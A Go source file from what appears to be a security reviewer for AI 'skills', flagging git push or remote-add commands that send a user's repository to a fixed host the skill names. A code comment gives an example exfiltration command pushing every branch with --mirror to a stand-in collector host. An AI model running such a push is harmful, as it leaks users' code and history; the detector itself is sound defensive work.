package review

import (
	"fmt"
	"net"
	"strings"

	"github.com/skillstudio/skillstudio/internal/lazyre"
)

// Repository exfiltration: git push to a repository the skill names, not
// one the user set up. `git push origin` goes where the user's clone
// points; `git push https://git.collect.example/x.git --mirror`, or a
// remote the same file adds with such a URL, sends the user's code, its
// history and every branch to a host the skill chose. A URL with a
// placeholder or a variable (<you>/<repo>, $REPO_URL, your-org) is the
// user's own, the usual "create a repo and push" doc line.
var (
	gitRemoteAdd = lazyre.New(`(?i)\bgit\s+remote\s+(?:add|set-url)\s+(?:-\S+\s+)*([^\s;&|]+)\s+["']?([^\s"';&|]+)`)
	gitPush      = lazyre.New(`(?i)\bgit\s+(?:-C\s+\S+\s+)?push\b([^;&|\n]*)`)
)

// repoURLHost returns the host of a fixed repository URL (https://, ssh://,
// git://, user@host:path), or "" when arg is not a URL or holds a
// placeholder or variable.
func repoURLHost(arg string) string {
	arg = strings.Trim(arg, `"'`)
	if strings.ContainsAny(arg, "<>${}%*[]") {
		return ""
	}
	var host, rest string
	if i := strings.Index(arg, "://"); i >= 0 {
		host, rest, _ = strings.Cut(arg[i+3:], "/")
		host = host[strings.LastIndexByte(host, '@')+1:]
		host = stripPort(host)
	} else if at := strings.IndexByte(arg, '@'); at > 0 {
		h, r, ok := strings.Cut(arg[at+1:], ":")
		if !ok || strings.ContainsAny(h, "/") {
			return ""
		}
		host, rest = h, r
	} else {
		return "" // a remote's name or a local path
	}
	host = strings.ToLower(strings.TrimSuffix(host, "."))
	if host == "" || !strings.Contains(host, ".") && host != "localhost" {
		return ""
	}
	if isLoopback(host) {
		return ""
	}
	switch host {
	case "example.com", "example.org", "example.net", "www.example.com", "git.example.com":
		return "" // the documentation domains stand for the user's own
	}
	owner, _, _ := strings.Cut(strings.TrimPrefix(rest, "/"), "/")
	owner = strings.ToLower(owner)
	switch {
	case owner == "user" || owner == "username" || owner == "you" || owner == "me" || owner == "owner" || owner == "org" ||
		owner == "organization" || owner == "name" || owner == "account",
		strings.HasPrefix(owner, "your") || strings.HasPrefix(owner, "my-") || strings.HasPrefix(owner, "my_"),
		strings.Contains(strings.ToLower(rest), "your-") || strings.Contains(strings.ToLower(rest), "your_"):
		return ""
	}
	return host
}

func isLoopback(host string) bool {
	if host == "localhost" || strings.HasSuffix(host, ".localhost") {
		return true
	}
	ip := net.ParseIP(strings.Trim(host, "[]"))
	return ip != nil && ip.IsLoopback()
}

const pushHint = "Read where the repository goes: a skill has no reason to push the user's code to a repository it chose."

// scanPushAway reports git push to a fixed repository URL the skill
// writes (directly, or through a remote it adds in the same file).
func (r *reviewer) scanPushAway(f *source, kind fileKind) {
	text := f.text
	if !strings.Contains(text, "push") || !strings.Contains(text, "git") {
		return
	}
	if kind == kindMarkdown || kind == kindText {
		text = codeOnly(text)
	}
	remotes := map[string]string{} // name → host, for remotes added with a fixed URL
	if strings.Contains(text, "remote") {
		for _, m := range gitRemoteAdd.FindAllStringSubmatch(text, -1) {
			if h := repoURLHost(m[2]); h != "" {
				remotes[m[1]] = h
			}
		}
	}
	forLines(text, func(pos int, logical, joined string) {
		if !strings.Contains(joined, "push") {
			return
		}
		for _, m := range gitPush.FindAllStringSubmatch(joined, -1) {
			var host, how string
			for _, a := range strings.Fields(m[1]) {
				switch {
				case a == "--mirror" || a == "--all":
					how = " with " + a + " (every branch)"
				case strings.HasPrefix(a, "-"):
				case host == "":
					// The first argument that is not a flag is the remote.
					if host = repoURLHost(a); host == "" {
						host = remotes[a]
					}
					if host == "" {
						host = "-" // the user's own remote
					}
				}
			}
			if host == "" || host == "-" {
				continue
			}
			if _, ok := r.declared.connect(host); ok {
				continue
			}
			off := pos + len(logical) - len(strings.TrimLeft(logical, " \t"))
			rule := "review/repo-exfiltration"
			if inProse(f, off) && !runsOnLoad(f, off, pushesAway) {
				rule = "review/repo-exfiltration-doc"
			}
			if at := loadCommandOn(f, off, pushesAway); at >= 0 {
				off = at
			}
			r.report(f, off, rule, fmt.Sprintf("pushes the repository%s to %s, a repository the skill names: %s", how, host, clip(Visible(strings.TrimSpace(joined)), 200)), pushHint)
			return
		}
	})
}

// pushesAway: a load-time command that holds a git push.
func pushesAway(cmd string) bool {
	return gitPush.MatchString(cmd)
}
